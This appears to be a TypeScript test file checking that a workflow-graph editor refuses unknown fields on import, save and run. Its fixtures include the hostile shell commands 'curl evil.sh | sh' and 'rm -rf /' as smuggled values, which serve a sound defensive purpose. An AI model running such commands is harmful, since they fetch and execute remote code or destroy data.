/**
 * Imports and saves are strict: a field the graph schema or a node type's config does not know is
 * refused with its path (node id and field), never dropped, on import, on save and on run. To add a
 * case, add a row to `unknownFields`; a new node type must add a valid config to `validConfigs`.
 */
import { beforeAll, expect, it } from 'vitest';
import { describeEachDb } from '@/test/db';
import { makeMasteryWithGraph, makeTeam, trpcFailure } from '@/test/api';
import { makeGraph, type TestGraph } from '@/server/engine/testing/make-graph';
import { builtInNodeTypes } from '@/server/nodes';

/** A config each node type accepts, so the unknown field is the config's only problem. */
const validConfigs: Record<string, Record<string, unknown>> = {
  input: {},
  output: {},
  transform: { expression: '1' },
  condition: { predicate: 'true' },
  delay: { ms: 10 },
  merge: {},
  llm: { model: 'gpt-4o-mini', prompt: 'Say hi' },
  http: { url: 'https://example.com/' },
  code: { code: 'return 1' },
  map: { items: '[1, 2]', masteryId: 'cm0child' },
  mastery: { masteryId: 'cm0child' },
  approval: { message: 'Go on?' },
};

const baseGraph = (type = 'transform', config: Record<string, unknown> = validConfigs.transform ?? {}): TestGraph =>
  makeGraph({ nodes: [{ id: 'start', type: 'input' }, { id: 'step', type, config }], edges: ['start->step'] });

interface UnknownFieldCase {
  where: string;
  graph: () => unknown;
  /** The issue path the API names, and what the message says. */
  path: string;
  message: string;
}

const withNode = (change: (node: Record<string, unknown>) => void) => () => {
  const graph = baseGraph();
  change(graph.nodes[1] as Record<string, unknown>);
  return graph;
};

const unknownFields: UnknownFieldCase[] = [
  { where: 'a node', graph: withNode((node) => (node.command = 'curl evil.sh | sh')), path: 'nodes.step.command', message: 'Node "step" (transform): unknown field command' },
  { where: "a node's position", graph: withNode((node) => (node.position = { x: 0, y: 0, z: 9 })), path: 'nodes.step.position.z', message: 'unknown field position.z' },
  { where: "a node's policy", graph: withNode((node) => (node.policy = { timeoutMs: 1000, preload: true })), path: 'nodes.step.policy.preload', message: 'unknown field policy.preload' },
  {
    where: "a policy's retry",
    graph: withNode((node) => (node.policy = { retry: { maxAttempts: 2, onRetry: 'x' } })),
    path: 'nodes.step.policy.retry.onRetry',
    message: 'unknown field policy.retry.onRetry',
  },
  {
    where: 'an edge',
    graph: () => ({ ...baseGraph(), edges: [{ id: 'e1', source: 'start', target: 'step', preload: 'x' }] }),
    path: 'edges.e1.preload',
    message: 'Edge "e1": unknown field preload',
  },
  { where: 'the settings', graph: () => ({ ...baseGraph(), settings: { maxParallel: 2, command: 'x' } }), path: 'settings.command', message: 'unknown field settings.command' },
  { where: 'the graph', graph: () => ({ ...baseGraph(), preload: ['x'] }), path: 'preload', message: 'unknown field preload' },
  ...Object.entries(validConfigs).map(([type, config]) => ({
    where: `a ${type} config`,
    graph: () => baseGraph(type, { ...config, command: 'rm -rf /' }),
    path: 'nodes.step.config.command',
    message: `Node "step" (${type}): unknown field config.command`,
  })),
];

describeEachDb('strict imports', (getDb) => {
  let team: Awaited<ReturnType<typeof makeTeam>>;
  let masteryId: string;
  let baseVersionId: string;

  beforeAll(async () => {
    const db = getDb().client;
    team = await makeTeam(db, 'Strict imports');
    ({ masteryId, versionId: baseVersionId } = await makeMasteryWithGraph(db, team.id, baseGraph()));
  });

  it('has a valid config for every node type, which imports', async () => {
    expect(Object.keys(validConfigs).sort()).toEqual(builtInNodeTypes.map((nodeType) => nodeType.type).sort());
    const editor = team.as('EDITOR');
    for (const [type, config] of Object.entries(validConfigs)) {
      if (type === 'input') continue;
      await expect(editor.versions.import({ masteryId, graph: baseGraph(type, config), note: '' })).resolves.toMatchObject({ status: 'DRAFT' });
    }
  });

  it.each(unknownFields)('refuses an unknown field on $where on import and save, naming it, saving nothing', async ({ graph, path, message }) => {
    const db = getDb().client;
    const editor = team.as('EDITOR');
    const before = await db.masteryVersion.count({ where: { masteryId } });
    // Thunks, so the second call starts only once the first is awaited: a promise rejected while nothing awaits it is an unhandled rejection.
    for (const attempt of [
      () => editor.versions.import({ masteryId, graph: graph(), note: '' }),
      () => editor.versions.saveDraft({ masteryId, baseVersionId, graph: graph(), note: '', force: true }),
    ]) {
      const error = await trpcFailure(attempt());
      expect(error.code).toBe('BAD_REQUEST');
      expect(error.message).toContain(message);
      const fieldErrors = (error.cause as { issues?: Array<{ path: string }> } | undefined)?.issues ?? [];
      expect(fieldErrors.map((issue) => issue.path)).toContain(path);
    }
    expect(await db.masteryVersion.count({ where: { masteryId } })).toBe(before);
  });

  it.each(unknownFields)('refuses to run a stored graph with an unknown field on $where, creating no run', async ({ graph, message }) => {
    const db = getDb().client;
    const stored = await makeMasteryWithGraph(db, team.id, graph());
    const error = await trpcFailure(team.as('EDITOR').runs.start({ masteryId: stored.masteryId, input: {} }));
    expect(error.code).toBe('BAD_REQUEST');
    expect(error.message).toContain(message);
    expect(await db.run.count({ where: { masteryId: stored.masteryId } })).toBe(0);
  });
});
